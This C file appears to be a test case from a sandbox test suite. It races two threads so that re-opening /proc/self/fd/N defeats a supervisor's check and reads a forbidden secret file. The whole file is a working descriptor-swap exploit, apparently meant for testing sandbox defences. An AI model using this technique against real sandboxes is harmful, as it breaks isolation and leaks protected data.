// What a descriptor of one's own has may be opened again by /proc/self/fd/N, whatever the policy says. Another
// thread puts a writable file of the attack's own under the number while the supervisor looks how the
// forbidden one, opened with O_PATH, is held there. Plain, the link is simply followed.
// class: OS sandboxes: a race on descriptors, /proc/PID/fd of oneself
// plain: leak
// journal: read {SECRET}
#include "race.h"

static int forbidden, own, racing = 100;

static void* swap(void* unused) {
  (void)unused;
  while (!race_over) {
    dup2(own, racing);
    linger(300);
    dup2(forbidden, racing);
    linger(300);
  }
  return NULL;
}

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  forbidden = open(fact("SECRET"), O_PATH);
  own = memfd_create("own", 0);
  if (forbidden < 0 || own < 0) refused("O_PATH of the secret, or a memfd");
  struct stat want, got;
  fstat(forbidden, &want);
  dup2(own, racing);
  const char* const link = text("/proc/self/fd/%d", racing);
  const char* const through_task = text("/proc/self/task/%d/fd/%d", getpid(), racing);
  const pthread_t thread = race_begin(swap);
  int opened = 0, won = 0;
  for (int i = 0; race_goes_on(i, TRIES); ++i) {
    const int fd = open(i % 2 ? link : through_task, O_RDONLY);
    if (fd < 0) continue;
    ++opened;
    if (fstat(fd, &got) == 0 && got.st_ino == want.st_ino && got.st_dev == want.st_dev && !won++) drain(fd);
    close(fd);
  }
  race_end(thread);
  dup2(forbidden, racing);
  drain_and_close(open(link, O_RDONLY), "the last try");
  printf("opened %d of %d, %d of them forbidden\n", opened, TRIES, won);
  return 0;
}
